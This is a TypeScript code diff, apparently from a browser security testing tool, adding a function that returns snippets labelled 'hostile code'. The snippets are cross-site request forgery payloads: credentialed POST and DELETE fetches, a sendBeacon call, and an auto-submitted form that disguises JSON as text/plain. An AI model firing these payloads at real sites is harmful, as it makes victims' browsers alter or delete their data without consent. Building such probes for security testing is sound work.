@@ -114,3 +114,12 @@ export const framed = (url: string): string => `
   document.body.append(frame)
   await loaded
   try { return frame.contentWindow.document.body.textContent } catch (error) { return error.name }`
+
+/** Hostile code, piece by piece, each of which would have the person's own browser change something there. */
+export const forged = (url: string): string[] => [
+  `await fetch('${url}', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{"name":"x"}' })`,
+  `await fetch('${url}', { method: 'DELETE', credentials: 'include' })`,
+  `navigator.sendBeacon('${url}', new Blob(['{}'], { type: 'text/plain' }))`,
+  `document.body.innerHTML = '<form method="post" enctype="text/plain" action="${url}"><input name="{&quot;a" value="b&quot;:1}"></form>'
+   document.querySelector('form').submit()`,
+]
